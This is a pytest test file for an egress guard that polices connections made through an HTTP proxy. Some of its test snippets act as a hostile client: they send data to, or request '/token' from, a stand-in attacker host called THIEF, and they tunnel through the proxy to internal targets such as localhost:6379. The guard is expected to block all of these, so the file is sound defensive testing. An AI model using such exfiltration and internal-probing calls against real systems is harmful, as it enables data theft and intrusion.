"""Connections through a proxy: the guard judges the target of CONNECT, and the proxy's answer
decides what may follow."""

from __future__ import annotations

import shutil
import sys
from pathlib import Path

import pytest

from tests import support
from tests.contract.helpers import copy_layer, policy_of
from tests.egress import places
from tests.egress.dialling import ENTRIES, LOOSENED, PRELUDE, THIEF, act
from tests.egress.network import Network
from tests.support import policy_file, rules

TUNNEL = """
s = dial(*PROXY)
s.send(f"CONNECT {target} HTTP/1.1\\r\\nHost: {target}\\r\\n\\r\\n".encode())
print(s.recv(100)[:12])
s.send({sent})
"""
PROXIED = {"HTTPS_PROXY": f"http://user:secret@{places.PROXY_NAME}:{places.PROXY_PORT}"}


@pytest.mark.parametrize(
    ("target", "sent", "events"),
    [
        (f"{places.API}:443", "GOOD", []),
        (f"{places.API}:443", "BAD", [(THIEF, 443, "server_name")]),
        (f"{places.API}:443", "RAW", [(places.PROXY_NAME, places.PROXY_PORT, "tls")]),
        (f"{places.API}:8443", "GOOD", [(places.API, 8443, "port")]),
        (f"{THIEF}:443", "BAD", [(THIEF, 443, "no_rule")]),
        ("10.66.0.80:443", "GOOD", [("10.66.0.80", 443, "no_rule")]),
        # The proxy's own loopback, not this machine's.
        ("localhost:6379", "RAW", [("localhost", 6379, "no_rule")]),
    ],
)
def test_behind_a_proxy(
    network: Network, target: str, sent: str, events: list[tuple[str, int, str]]
) -> None:
    code = TUNNEL.replace("{target}", target).replace("{sent}", sent)
    run = act(network, code, "block", PROXIED)
    got = [
        (event["details"]["host"], event["details"]["port"], event["reason"])
        for event in run.result.violations
    ]
    assert got == events, run.result
    assert {note["server_name"] for note in run.arrived.of("hello")} <= {places.API}
    if events and events[0][2] in ("port", "no_rule"):
        assert [note for note in run.arrived.of("proxy") if note["method"]] == []


ANSWERED = """
def ask(s, target, *lines):
    head = (f"CONNECT {target} HTTP/1.1", "Host: " + target, *lines, "", "")
    s.send("\\r\\n".join(head).encode())
def answer(s):
    heard = b""
    while b"\\r\\n\\r\\n" not in heard and (more := s.recv(4096)):
        heard += more
    head, _, body = heard.partition(b"\\r\\n\\r\\n")
    while b"Content-Length: 60" in head and len(body) < 60 and (more := s.recv(4096)):
        body += more
    return head[9:12]
def evil(s):
    name = THIEF.encode()
    s.send(b"GET http://" + name + b"/ HTTP/1.1\\r\\nHost: " + name + b"\\r\\n\\r\\n")
    return answer(s)
no = "X-Answer: 403"
s = dial(*PROXY)
PLAIN80, RANGE, NONE = PLAIN + ":80", "10.77.0.9:9000", PROXY[0] + ":7777"
"""
BEHIND = [
    *ENTRIES,
    {"cidr": "10.77.0.0/24"},
    {"host": places.PROXY_NAME, "ports": [7777], "tls": "none"},
]


def test_answers_to_other_requests_are_not_followed(network: Network) -> None:
    code = (
        ANSWERED
        + "s.send(request(PLAIN, path='http://' + PLAIN + '/')); answer(s); ask(s, PLAIN80);"
        " print(answer(s))"
    )
    run = act(network, code, "block", PROXIED)
    assert run.words == {("block", "upgrade")}
    assert [note["method"] for note in run.arrived.of("proxy")] == ["GET"]


HONESTLY = """
s = dial(*PROXY); ask(s, API + ":443", "X-Answer: 407"); print(answer(s))
ask(s, API + ":443", "X-Answer: 407", "Proxy-Authorization: NTLM a"); print(answer(s))
s.send(GOOD); print(len(s.recv(9)))
s = dial(*PROXY); ask(s, PLAIN80, no); print(answer(s)); ask(s, PLAIN80); print(answer(s))
s.send(request(PLAIN) * 2); print(s.recv(12))
s = dial(*PROXY); ask(s, API + ":443", "X-Answer: 407"); s.settimeout(None)
print(os.readv(s.fileno(), [bytearray(5), bytearray(4000)]) > 0)
time.sleep(.2); ask(s, API + ":443"); print(s.recvmsg(4000)[0][9:12])
s.send(GOOD); print(len(s.recv(9)))
s = dial(*PROXY); ask(s, PLAIN80); f = s.makefile("rb"); print(f.readline()); f.readline()
s.send(request(PLAIN)); print(f.read(12))
s = dial(*PROXY); ask(s, NONE); s.setblocking(False)
while True:
    try:
        print(os.read(s.fileno(), 1), end=" ")
    except BlockingIOError:
        if select.select([s], [], [], .5) == ([], [], []):
            break
s.setblocking(True); s.send(b"anything"); print("sent")
"""


def test_a_tunnel_that_was_asked_for_twice(network: Network) -> None:
    bare = act(network, ANSWERED + HONESTLY, None, PROXIED)
    assert bare.result.stdout.count("b'407'") >= 1 and bare.result.stdout.rstrip().endswith(
        "sent"
    ), bare.result
    for mode in ("block", "alert"):
        policy = rules({"mode": mode, "allow": BEHIND})
        argv = [sys.executable, "-c", PRELUDE + ANSWERED + HONESTLY]
        done = network.run(
            argv, policy=policy, env={**PROXIED, "PYTHONPATH": str(support.ROOT)}, stdin=""
        )
        assert (done.result.stdout, done.result.violations) == (bare.result.stdout, []), (
            mode,
            done.result,
        )


def test_a_client_behind_a_proxy(network: Network) -> None:
    code = """
import urllib.request
for url in (f"https://{API}/token", f"https://{THIEF}/token",
            f"http://{PLAIN}/token", f"http://{THIEF}/token"):
    try:
        print(urllib.request.urlopen(url, timeout=5).status)
    except OSError as error:
        print(type(error).__name__)
"""
    env = {**PROXIED, "HTTP_PROXY": PROXIED["HTTPS_PROXY"]}
    assert act(network, code, None, env).result.stdout.split()[0] == "200"
    run = act(network, code, "block", env)
    assert run.result.stdout.split() == ["200", "URLError", "200", "URLError"]
    assert run.arrived.holding(THIEF) == []


@pytest.mark.parametrize(
    ("mode", "before", "events"),
    [("alert", "", [(places.API, "alert")]), ("block", LOOSENED.replace("MODE", "'allow'"), [])],
)
def test_a_floor_allows_behind_a_proxy(
    network: Network, tmp_path: Path, mode: str, before: str, events: list[tuple[str, str]]
) -> None:
    """The function's policy only reports the target, or configure() allowed it. The floor's entry
    lets it pass."""
    launcher = copy_layer(tmp_path / "layer")
    floor = policy_file(rules({"mode": "block", "allow": ENTRIES}))
    shutil.copy(floor, policy_of(launcher, "floor"))
    own = rules({"mode": mode, "allow": ENTRIES[2:]}, allow_reconfigure=True)
    tunnel = TUNNEL.replace("{target}", f"{places.API}:443").replace("{sent}", "GOOD")
    argv: list[str | Path] = [launcher, sys.executable, "-c", PRELUDE + before + tunnel]
    env = {**PROXIED, "PYTHONPATH": str(support.ROOT), "FUNCTION_SHIELD_POLICY": policy_file(own)}
    done = network.run(argv, policy=None, env=env, stdin="")
    got = [(event["details"]["host"], event["mode"]) for event in done.result.violations]
    assert got == events, done.result
    assert {note["server_name"] for note in done.arrived.of("hello")} == {places.API}
